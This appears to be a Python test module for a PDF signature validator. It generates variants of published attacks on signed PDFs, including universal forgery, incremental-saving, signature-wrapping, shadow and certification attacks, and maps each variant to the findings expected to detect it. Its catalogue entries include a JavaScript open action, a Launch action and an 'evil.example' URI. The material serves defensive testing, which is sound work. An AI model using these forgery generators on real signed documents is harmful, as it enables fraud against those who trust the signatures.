"""Attacks on signed documents, each by its published name; a random source makes variants of each.

USF, ISA and SWA: universal forgery, incremental saving, signature wrapping (Mladenov et al. 2019). Shadow attacks and
attacks on certifications (Mainka et al. 2021, Rohlmann et al. 2021). The traps of one's own rest on documents that
their author prepared.
"""

import io
import re
from collections.abc import Callable
from random import Random
from typing import Any

import pikepdf

from tests.attacks.documents import opened, saved
from tests.attacks.update import EVIL, Update, evil_stream
from tests.fakes.sealing_world import plain_pdf
from trust.pades.increment import Increment
from trust.pades.xref import read as read_xref

Attack = Callable[[bytes, Random], bytes]
SPACES = (b" ", b"\n", b"\r\n", b"\t", b"\x00", b"\x0c", b"\n\n")
RANGE = re.compile(rb"/ByteRange *\[[^\]]*\]")
VALUE = re.compile(rb"/Contents *(<[0-9a-fA-F]{64,}>)")


def last_range(pdf: bytes) -> re.Match[bytes]:
    """The byte range of the first signature in the file."""
    found = RANGE.search(pdf)
    assert found is not None
    return found


def numbers(pdf: bytes) -> list[int]:
    return [int(each) for each in re.findall(rb"\d+", last_range(pdf).group())]


def put(pdf: bytes, at: re.Match[bytes], text: bytes) -> bytes:
    """Another text in a place of the same length."""
    assert len(text) <= len(at.group())
    return pdf[: at.start()] + text.ljust(len(at.group())) + pdf[at.end() :]


def page_numbers(pdf: bytes) -> tuple[int, int]:
    """Object numbers of the first page and of its content."""
    with opened(pdf) as found:
        page = found.pages[0].obj
        contents = page.Contents
        if isinstance(contents, pikepdf.Array) and not contents.is_indirect:
            contents = contents[0]
        return page.objgen[0], contents.objgen[0]


# --- universal signature forgery: nothing to check, nothing wrong


def usf(pdf: bytes, random: Random) -> bytes:
    words = [
        "null",
        "[]",
        "[0 0 0 0]",
        "[0 -1 2 -3]",
        "(a b c d)",
        "[null null]",
        "0",
        "[1 2 3]",
        "true",
        "<<>>",
        "[0 9 9]",
    ]
    return put(pdf, last_range(pdf), b"/ByteRange " + random.choice(words).encode())


def usf_without_range(pdf: bytes, random: Random) -> bytes:
    return put(pdf, last_range(pdf), random.choice([b"", b"/ByteRang", b"/Byterange [0 1 2 3]"]))


def usf_contents(pdf: bytes, random: Random) -> bytes:
    found = VALUE.search(pdf)
    assert found is not None
    words = [b"null", b"<>", b"()", b"<00>", b"0", b"<30>", b"<" + b"0" * (len(found.group(1)) - 2) + b">"]
    text = b"/Contents " + random.choice(words)
    return put(pdf, found, text[: len(found.group())])


# --- incremental saving


def isa_content(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    update.bodies[page_numbers(pdf)[1]] = evil_stream()
    return update.written(before=random.choice(SPACES))


def isa_page_added(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    with opened(pdf) as found:
        tree = found.Root.Pages
        text = update.add(evil_stream())
        parent = tree.unparse()
        page = update.add(b"<< /Type /Page /MediaBox [0 0 595 842] /Parent %s /Contents %d 0 R >>" % (parent, text))
        kids = [kid.unparse() for kid in tree.Kids]
        kids.insert(random.randrange(len(kids) + 1), b"%d 0 R" % page)
        update.bodies[tree.objgen[0]] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    return update.written()


def isa_empty_xref(pdf: bytes, random: Random) -> bytes:
    number = page_numbers(pdf)[1]
    update = Update(pdf, {number: evil_stream()})
    return update.written(unlisted=frozenset({number}), before=random.choice(SPACES))


def isa_hidden_in_stream(pdf: bytes, random: Random) -> bytes:
    """Seen by readers that search for objects line by line."""
    inner = random.choice(SPACES[1:3]) + b"%d 0 obj\n%s\nendobj\n" % (page_numbers(pdf)[1], evil_stream())
    update = Update(pdf)
    update.add(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(inner), inner))
    return update.written()


def isa_hidden_in_comment(pdf: bytes, random: Random) -> bytes:
    line = b"%%\n%d 0 obj %s endobj\n" % (page_numbers(pdf)[1], evil_stream().replace(b"\n", b" "))
    return Update(pdf, {}).written(before=line * random.randint(1, 3))


def isa_without_xref(pdf: bytes, random: Random) -> bytes:
    body = b"%d 0 obj\n%s\nendobj\n" % (page_numbers(pdf)[1], evil_stream())
    return pdf + body + random.choice([b"", b"%%EOF\n", b"startxref\n0\n%%EOF\n", b"trailer\n<<>>\n"])


def isa_without_trailer(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf, {page_numbers(pdf)[1]: evil_stream()})
    return update.written(trailer=random.choice([b"", b"trailer\n", b"trailer\n<< >>\n", b"trailer\n<< /Size 1 >>\n"]))


def isa_wrong_startxref(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf, {page_numbers(pdf)[1]: evil_stream()})
    return update.written(start_off=random.choice([-40, -9, -1, 1, 3, 20, 10**6]))


def isa_old_startxref(pdf: bytes, random: Random) -> bytes:
    """Objects at the end, and an end that still points to the signed cross-reference."""
    update = Update(pdf, {page_numbers(pdf)[1]: evil_stream()})
    whole = update.written()
    cut = whole.rindex(b"startxref")
    return whole[:cut] + b"startxref\n%d\n%%%%EOF\n" % update.layout.start + random.choice([b"", b"\n"])


def isa_wrong_entry(pdf: bytes, random: Random) -> bytes:
    number = page_numbers(pdf)[1]
    update = Update(pdf, {number: evil_stream()})
    where = random.choice([0, 9, len(pdf) - 30, len(pdf) + 3])
    return update.written(unlisted=frozenset({number}), listed={number: where})


def isa_entry_twice(pdf: bytes, random: Random) -> bytes:
    """One reader takes the first entry, another the last."""
    number = page_numbers(pdf)[1]
    update = Update(pdf, {number: evil_stream()})
    kind, offset, _ = update.layout.entries()[number]
    if kind != 1:
        return update.written()
    if random.random() < 0.5:
        return update.written(twice={number: offset})
    place = len(pdf) + (not pdf.endswith(b"\n"))
    return update.written(unlisted=frozenset({number}), listed={number: offset}, twice={number: place})


def isa_generation(pdf: bytes, random: Random) -> bytes:
    """The same object under another generation: what refers to it finds nothing."""
    number = page_numbers(pdf)[random.randrange(2)]
    with opened(pdf) as found:
        item = found.get_object(number, 0)
        body = item.unparse(resolved=True)
        if isinstance(item, pikepdf.Stream):
            raw = bytes(item.read_raw_bytes())
            body = pikepdf.Dictionary(dict(item.stream_dict.items())).unparse() + b"\nstream\n" + raw + b"\nendstream"
    return Update(pdf, {number: body}, {number: random.randint(1, 9)}).written()


def isa_freed(pdf: bytes, random: Random) -> bytes:
    return Update(pdf, {}).written(freed=frozenset({page_numbers(pdf)[random.randrange(2)]}))


def isa_object_stream(pdf: bytes, random: Random) -> bytes:
    """The page overridden from inside an object stream."""
    update = Update(pdf)
    page = page_numbers(pdf)[0]
    text = update.add(evil_stream())
    inner = b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % text
    head = b"%d 0 " % page
    holder = update.add(
        b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s%s\nendstream"
        % (len(head), len(head) + len(inner), head, inner)
    )
    whole = update.written(table=False, trailer=b"")
    whole = whole[: whole.rindex(b"startxref")]
    own = holder + 1
    rows = {text: None, holder: None, own: None}
    body = bytearray()
    for number in rows:
        place = len(whole) if number == own else whole.rindex(b"%d 0 obj" % number)
        body += b"\x01" + place.to_bytes(4, "big") + b"\x00"
    body += b"\x02" + holder.to_bytes(4, "big") + b"\x00"
    return (
        whole
        + b"%d 0 obj\n<< /Type /XRef /W [1 4 1] /Index [%d 3 %d 1] /Size %d /Root %d 0 R /Prev %d /Length %d >>\n"
        % (own, text, page, own + 1, update.root.number, update.layout.start, len(body))
        + b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (bytes(body), len(whole))
    )


def isa_prev_skips(pdf: bytes, random: Random) -> bytes:
    """The newest section is chained past the signed revision."""
    update = Update(pdf, {page_numbers(pdf)[1]: evil_stream()})
    older = [section.offset for section in update.layout.sections[1:]] or [0]
    return update.written(prev=random.choice(older))


def isa_other_root(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    with opened(pdf) as found:
        entries = {key: value.unparse() for key, value in found.Root.items() if isinstance(value, pikepdf.Object)}
    text = update.add(evil_stream())
    tree = update.layout.size + 2
    page = update.add(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (tree, text))
    update.add(b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page)
    entries["/Pages"] = b"%d 0 R" % tree
    body = b"<< " + b" ".join(key.encode() + b" " + value for key, value in entries.items()) + b" >>"
    if random.random() < 0.5:
        update.bodies[update.root.number] = body
        return update.written()
    return update.written(root=update.add(body))


def isa_after_end(pdf: bytes, random: Random) -> bytes:
    return pdf + random.choice(
        [b"x", b"%\n", b"<html>", b"0 0 obj", evil_stream(), b"\x01", b"%PDF-1.7\n", b"%%EOF\n%%EOF\n"]
    )


def isa_truncated(pdf: bytes, random: Random) -> bytes:
    """The end is gone: readers build the cross-reference anew, and see what was put there."""
    body = b"%d 0 obj\n%s\nendobj\n" % (page_numbers(pdf)[1], evil_stream())
    return pdf[: pdf.rindex(b"startxref") + random.randint(0, 12)] + b"\n" + body


def hybrid(pdf: bytes, random: Random) -> bytes:
    """A table that says nothing, beside a stream that says everything."""
    number = page_numbers(pdf)[1]
    update = Update(pdf, {number: evil_stream()})
    whole = update.written()
    head, place = whole[: whole.rindex(b"xref\n", 0, whole.rindex(b"startxref"))], len(pdf) + (pdf[-1:] != b"\n")
    own = update.layout.size
    row = b"\x01" + place.to_bytes(4, "big") + b"\x00"
    stream_at = len(head)
    entries = b"<< /Type /XRef /W [1 4 1] /Index [%d 1] /Size %d /Length 6 >>" % (number, own + 1)
    head += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (own, entries, row)
    kind = random.choice([b"0 0\n", b"%d 1\n0000000000 65535 f\r\n" % number])
    return head + b"xref\n%strailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        kind, own + 1, update.root.number, update.layout.start, stream_at, len(head)
    )  # fmt: skip


# --- signature wrapping


def swa_in_gap(pdf: bytes, random: Random) -> bytes:
    """Another byte range and other objects inside the gap; the second signed part moved to the end."""
    _, first, second, length = numbers(pdf)
    value = pdf[first:second]
    evil = b"%d 0 obj\n%s\nendobj\n" % (page_numbers(pdf)[1], evil_stream())
    moved = second + 60 + len(evil)
    extra = b" /ByteRange [0 %d %d %d] " % (first, moved, length)
    gap = value + extra.ljust(60) + evil
    return pdf[:first] + gap + pdf[second:] + (b"" if random.random() < 0.5 else b"\n")


def swa_range(pdf: bytes, random: Random) -> bytes:
    """The range rewritten, so that more is left out than the value."""
    _, first, second, length = numbers(pdf)
    how = random.choice(["shorter", "longer gap", "earlier", "overlapping", "beyond", "start"])
    spread = {
        "shorter": [0, first, second, length - random.randint(1, 60)],
        "longer gap": [0, first - random.randint(1, 20), second + 1, length - 1],
        "earlier": [0, first - 5, second - 5, length],
        "overlapping": [0, second, first, length],
        "beyond": [0, first, second, length + random.randint(1, 9000)],
        "start": [random.randint(1, 9), first, second, length],
    }[how]
    return put(pdf, last_range(pdf), b"/ByteRange [%d %d %d %d]" % tuple(spread))


def swa_other_object(pdf: bytes, random: Random) -> bytes:
    """The signature dictionary written again at the end, with a range of the attacker's over the signed bytes."""
    start, first, second, length = numbers(pdf)
    with opened(pdf) as found:
        form = found.Root.AcroForm
        item = next(item.V for item in form.Fields if isinstance(item.get("/V"), pikepdf.Dictionary))
        entries = {key: value for key, value in item.items() if key not in ("/Contents", "/ByteRange")}
        text = pikepdf.Dictionary(entries).unparse()[2:-2]
        number, value = item.objgen[0], bytes(item.Contents).hex().encode()
    update = Update(pdf, {page_numbers(pdf)[1]: evil_stream()})
    spread = b"[%d %d %d %d]" % (start, first, second, length)
    update.bodies[number] = b"<< /ByteRange %s /Contents <%s> %s >>" % (spread, value, text)
    return update.written(before=random.choice(SPACES))


# --- shadow: content that was hidden when it was signed


def shadow_hidden_object(pdf: bytes, random: Random) -> bytes:
    """An entry that points to other bytes inside the signed revision."""
    update = Update(pdf, {})
    number = page_numbers(pdf)[random.randrange(2)]
    others = [offset for key, (kind, offset, _) in update.layout.entries().items() if kind == 1 and key != number]
    return update.written(listed={number: random.choice(others)})


def shadow_font(pdf: bytes, random: Random) -> bytes:
    with opened(pdf) as found:
        font = found.pages[0].obj.Resources.Font.F1.objgen[0]
    body = b"<< /Type /Font /Subtype /Type1 /BaseFont /%s >>" % random.choice([b"Symbol", b"ZapfDingbats", b"Courier"])
    return Update(pdf, {font: body}).written()


# --- what a certification may forbid


def _page_with(pdf: bytes, number: int, update: Update) -> bytes:
    """The page listing one more annotation."""
    with opened(pdf) as found:
        page = found.pages[0].obj
        listed = page.get("/Annots")
        kept = b" ".join(item.unparse() for item in listed) if listed is not None else b""
        array = b"[%s %d 0 R]" % (kept, number)
        if listed is not None and listed.is_indirect:
            update.bodies[listed.objgen[0]] = array
        else:
            entries = {key: value for key, value in page.items() if key != "/Annots"}
            update.bodies[page.objgen[0]] = pikepdf.Dictionary(entries).unparse()[:-2] + b"/Annots " + array + b" >>"
    return update.written()


def _drawing(update: Update) -> int:
    return update.add(
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length %d >>\nstream\n%s\nendstream" % (len(EVIL), EVIL)
    )


def evil_annotation(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    kind = random.choice([b"FreeText", b"Stamp", b"Redact", b"Square", b"Ink", b"Widget", b"Link", b"Popup", b"Screen"])
    body = b"<< /Type /Annot /Subtype /%s /Rect [0 0 595 842] /F 4 /AP << /N %d 0 R >> >>"
    return _page_with(pdf, update.add(body % (kind, _drawing(update))), update)


def sneaky_signature(pdf: bytes, random: Random) -> bytes:
    """A visible mark over the page that calls itself a signature field."""
    update = Update(pdf)
    value = random.choice(
        [b"", b"/V << /Type /Sig /Filter /Adobe.PPKLite >>", b"/V << /Type /Sig /ByteRange [0 1 2 3] /Contents <30> >>"]
    )
    drawn = _drawing(update)
    body = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (X) /F 4 /Rect [0 0 595 842] /AP << /N %d 0 R >> %s >>"
    number = update.add(body % (drawn, value))
    _list_field(pdf, number, update)
    return _page_with(pdf, number, update)


def sneaky_timestamp(pdf: bytes, random: Random) -> bytes:
    """An invisible field of a timestamp, with a widget over the page that calls it its parent."""
    update = Update(pdf)
    value = random.choice([b"/V << /Type /DocTimeStamp /SubFilter /ETSI.RFC3161 >>", b""])
    field = update.add(b"<< /FT /Sig /T (T) /Rect [0 0 0 0] %s >>" % value)
    _list_field(pdf, field, update)
    body = b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R /F 4 /Rect [0 0 595 842] /AP << /N %d 0 R >> >>"
    return _page_with(pdf, update.add(body % (field, _drawing(update))), update)


def _list_field(pdf: bytes, number: int, update: Update) -> None:
    with opened(pdf) as found:
        form = found.Root.AcroForm
        fields = b" ".join(item.unparse() for item in form.Fields)
        array = b"[%s %d 0 R]" % (fields, number)
        if form.Fields.is_indirect:
            update.bodies[form.Fields.objgen[0]] = array
        elif form.is_indirect:
            update.bodies[form.objgen[0]] = b"<< /SigFlags 3 /Fields %s >>" % array
        else:
            entries = {key: value for key, value in found.Root.items() if key != "/AcroForm"}
            update.bodies[update.root.number] = (
                pikepdf.Dictionary(entries).unparse()[:-2] + b"/AcroForm << /SigFlags 3 /Fields %s >> >>" % array
            )


def overlay(pdf: bytes, random: Random) -> bytes:
    """One more content stream over the page."""
    update = Update(pdf)
    number = update.add(evil_stream())
    with opened(pdf) as found:
        page = found.pages[0].obj
        content = page.Contents.unparse()
        order = [content, b"%d 0 R" % number]
        entries = {key: value for key, value in page.items() if key != "/Contents"}
        joined = b" ".join(order if random.random() < 0.5 else order[::-1])
        update.bodies[page.objgen[0]] = pikepdf.Dictionary(entries).unparse()[:-2] + b"/Contents [%s] >>" % joined
    return update.written()


def form_filled(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    with opened(pdf) as found:
        item = found.Root.AcroForm.Fields[0]
        entries = {key: value for key, value in item.items() if key not in ("/V", "/AP")}
        text = pikepdf.Dictionary(entries).unparse()[:-2]
        number = item.objgen[0]
    update.bodies[number] = text + b"/V (%d) /AP << /N %d 0 R >> >>" % (random.randint(2, 9999), _drawing(update))
    return update.written()


def catalogue(pdf: bytes, random: Random) -> bytes:
    """Names, actions, layers, outlines: whatever acts or hides."""
    update = Update(pdf)
    entry = random.choice(
        [
            b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
            b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
            b"/AA << /WC << /S /Launch /F (x) >> >>",
            b"/OCProperties << /OCGs [] /D << /BaseState /OFF >> >>",
            b"/Outlines << /Count 0 >>",
            b"/PageLabels << /Nums [0 << /P (9) >>] >>",
            b"/URI << /Base (http://evil.example) >>",
            b"/PageMode /UseAttachments",
            b"/Names << /EmbeddedFiles << /Names [] >> >>",
        ]
    )
    key = entry.split(b" ")[0].decode()
    with opened(pdf) as found:
        kept = {name: value for name, value in found.Root.items() if name != key}
        update.bodies[update.root.number] = pikepdf.Dictionary(kept).unparse()[:-2] + entry + b" >>"
    return update.written()


def page_box(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    entry = random.choice([b"/CropBox [0 0 9 9]", b"/Rotate 90", b"/AA << /O << /S /Launch >> >>", b"/UserUnit 9"])
    with opened(pdf) as found:
        page = found.pages[0].obj
        update.bodies[page.objgen[0]] = pikepdf.Dictionary(dict(page.items())).unparse()[:-2] + entry + b" >>"
    return update.written()


def page_tree(pdf: bytes, random: Random) -> bytes:
    update = Update(pdf)
    with opened(pdf) as found:
        tree = found.Root.Pages
        kids = [kid.unparse() for kid in tree.Kids]
        entry = random.choice([b"/Rotate 180", b"/MediaBox [0 0 9 9]", b"/Resources << >>"])
        update.bodies[tree.objgen[0]] = b"<< /Type /Pages %s /Count %d /Kids [%s] >>" % (
            entry, len(kids), b" ".join(kids)
        )  # fmt: skip
    return update.written()


def evidence_beside(pdf: bytes, random: Random) -> bytes:
    """Evidence added as it may be, and the page's content changed with it."""
    update = Update(pdf)
    certificate = update.add(b"<< /Length 3 >>\nstream\n0\x01\x00\nendstream")
    with opened(pdf) as found:
        kept = {name: value for name, value in found.Root.items() if name != "/DSS"}
        update.bodies[update.root.number] = (
            pikepdf.Dictionary(kept).unparse()[:-2] + b"/DSS << /Certs [%d 0 R] >> >>" % certificate
        )
    update.bodies[page_numbers(pdf)[1]] = evil_stream()
    return update.written(before=random.choice(SPACES))


# --- documents inside documents


def pdf_before(pdf: bytes, random: Random) -> bytes:
    return plain_pdf(random.randint(1, 3)) + pdf


def pdf_behind(pdf: bytes, random: Random) -> bytes:
    return pdf + plain_pdf(random.randint(1, 3))


def pdf_behind_chained(pdf: bytes, random: Random) -> bytes:
    """Another document behind the signed one, its cross-reference made to fit."""
    other = plain_pdf(random.randint(1, 2))
    return bytes(Increment(read_xref(pdf)).append_to(pdf + other).pdf)


def rewritten(pdf: bytes, random: Random) -> bytes:
    """Saved anew by another program."""
    with opened(pdf) as found:
        return saved(
            found,
            linearize=random.random() < 0.5,
            object_stream_mode=random.choice(list(pikepdf.ObjectStreamMode)),
        )


def renumbered(pdf: bytes, random: Random) -> bytes:
    """The signed pages in another document, beside others."""
    with opened(pdf) as found, pikepdf.new() as new:
        new.pages.extend(found.pages)
        new.add_blank_page()
        out = io.BytesIO()
        new.save(out)
        return out.getvalue()


def one_byte(pdf: bytes, random: Random) -> bytes:
    """One bit in what the first signature covers."""
    _, first, second, length = numbers(pdf)
    at = random.randrange(0, first) if random.random() < 0.5 else random.randrange(second, second + length)
    out = bytearray(pdf)
    out[at] ^= 1 << random.randrange(8)
    return bytes(out)


# --- traps laid before signing


def trap_sprung(kind: str, pdf: bytes) -> bytes:
    update = Update(pdf)
    drawing = b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length %d >>\nstream\n%s\nendstream"
    with opened(pdf) as found:
        page: Any = found.pages[0].obj
        root = found.Root
        kept = {name: value for name, value in root.items() if name != "/Metadata"}
        match kind:
            case "overlay":
                box = page.Resources.XObject.Over.objgen[0]
                update.bodies[box] = (
                    b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 >>\nstream\n\nendstream"
                )
            case "metadata as drawing":
                number = update.add(drawing % (len(EVIL), EVIL))
                update.bodies[update.root.number] = (
                    pikepdf.Dictionary(kept).unparse()[:-2] + b"/Metadata %d 0 R >>" % number
                )
            case "evidence as content":
                array = page.Contents
                number = update.add(evil_stream())
                update.bodies[array.objgen[0]] = b"[%s %d 0 R]" % (array[0].unparse(), number)
            case "certificate as drawing":
                update.bodies[root.DSS.Certs[0].objgen[0]] = drawing % (len(EVIL), EVIL)
            case "notes as content":
                array = page.Annots
                entries = b"/Type /Annot /Subtype /Widget /FT /Sig /T (X) /Rect [0 0 0 0]"
                number = update.add(b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(EVIL), EVIL))
                update.bodies[array.objgen[0]] = b"[%s %d 0 R]" % (
                    b" ".join(item.unparse() for item in array), number
                )  # fmt: skip
            case "hole" | "cross-reference as drawing":
                number = int(re.findall(rb"/Over (\d+) 0 R", pdf)[-1])
                update.bodies[number] = drawing % (len(EVIL), EVIL)
    return update.written()


TRAPS = (
    "overlay",
    "metadata as drawing",
    "evidence as content",
    "certificate as drawing",
    "notes as content",
    "hole",
    "cross-reference as drawing",
)
# attack → by which findings it may be told; one of them must be among those told
RECOGNISED: dict[Attack, frozenset[str]] = {
    attack: frozenset(slugs.split())
    for attack, slugs in {
        usf: "byte_range_malformed",
        usf_without_range: "no_signature HASH_FAILURE",
        usf_contents: "byte_range_not_round_value value_empty",
        isa_content: "object_changed",
        isa_page_added: "object_changed",
        isa_empty_xref: "hidden_objects",
        isa_hidden_in_stream: "hidden_objects",
        isa_hidden_in_comment: "hidden_objects",
        isa_without_xref: "bytes_after_end hidden_objects unreadable",
        isa_without_trailer: "hidden_objects unreadable",
        isa_wrong_startxref: "hidden_objects unreadable",
        isa_old_startxref: "revisions_not_chained hidden_objects",
        isa_wrong_entry: "hidden_objects",
        isa_entry_twice: "hidden_objects xref_contradicts_itself",
        isa_generation: "generation_changed",
        isa_freed: "object_removed annotation_removed",
        isa_object_stream: "page/Contents",
        isa_prev_skips: "signature_outside_document hidden_objects revisions_not_chained",
        isa_other_root: "catalogue_replaced catalogue/Pages",
        isa_after_end: "bytes_after_end",
        isa_truncated: "signature_lies_elsewhere bytes_after_end hidden_objects unreadable HASH_FAILURE",
        hybrid: "hidden_objects xref_contradicts_itself object_changed",
        swa_in_gap: "signature_outside_document byte_range_not_round_value unreadable",
        swa_range: "byte_range_malformed byte_range_not_round_value byte_range_beyond_file HASH_FAILURE",
        swa_other_object: "signature_lies_elsewhere",
        shadow_hidden_object: "entries_point_elsewhere",
        shadow_font: "object_changed",
        evil_annotation: "annotation_added",
        sneaky_signature: "mark_without_signature signature_without_value byte_range_malformed"
        " byte_range_not_round_value",
        sneaky_timestamp: "mark_without_signature signature_without_value",
        overlay: "page/Contents",
        form_filled: "field_filled_in",
        catalogue: "catalogue/OpenAction catalogue/Names catalogue/AA catalogue/OCProperties catalogue/Outlines"
        " catalogue/PageLabels catalogue/URI catalogue/PageMode",
        page_box: "page/CropBox page/Rotate page/AA page/UserUnit",
        page_tree: "object_changed",
        evidence_beside: "object_changed",
        pdf_before: "byte_range_not_round_value byte_range_malformed unreadable HASH_FAILURE",
        pdf_behind: "hidden_objects signature_outside_document",
        pdf_behind_chained: "hidden_objects",
        rewritten: "byte_range_beyond_file byte_range_not_round_value HASH_FAILURE byte_range_malformed",
        renumbered: "byte_range_beyond_file byte_range_not_round_value HASH_FAILURE no_signature",
        one_byte: "HASH_FAILURE FORMAT_FAILURE no_signature unreadable cms_malformed",
    }.items()
}
# what needs a form to be filled in, and nobody who allowed it
NEEDS: dict[Attack, tuple[str, ...]] = {
    form_filled: ("form, approval", "form, P=1", "form over the whole page, P=2"),
}
